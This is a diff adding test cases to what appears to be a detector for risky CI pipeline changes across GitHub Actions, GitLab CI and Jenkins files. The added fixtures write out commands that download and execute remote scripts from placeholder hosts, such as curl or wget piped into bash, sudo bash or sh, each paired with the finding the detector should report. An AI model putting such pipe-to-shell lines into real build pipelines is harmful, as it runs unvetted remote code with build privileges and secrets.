@@ -56,6 +56,31 @@ def answer(repository: Repository, before: Files, after: Files) -> Answer:
     [
         (CI, FLOW, ("  pull_request:", "  pull_request_target:"), (3, "on.pull_request_target", None, True)),
         (CI, FLOW, ("on:\n  pull_request:", "on: [push, workflow_run]"), (2, "on.workflow_run", None, True)),
+        (CI, FLOW, ("  pull_request:", "  issue_comment: {types: [created]}"), (3, "on.issue_comment", None, False)),
+        (
+            CI,
+            FLOW,
+            ("run: make", "run: |\n          make\n          curl -fsSL https://get.example/i.sh | sudo bash -s -- -y"),
+            (17, "runs https://get.example/i.sh", None, False),
+        ),
+        (
+            CI,
+            FLOW,
+            ("run: make", "run: bash <(curl -s https://a.example/x)"),
+            (15, "runs https://a.example/x", None, False),
+        ),
+        (
+            ".gitlab-ci.yml",
+            GITLAB,
+            ("    - make", "    - wget -qO- https://a.example/x | sh"),
+            (4, "runs https://a.example/x", None, False),
+        ),
+        (
+            "Jenkinsfile",
+            "pipeline {\n  sh 'make'\n}\n",
+            ("make", 'python -c "$(curl https://a.example/x)"'),
+            (2, "runs https://a.example/x", None, False),
+        ),
         (
             CI,
             FLOW,
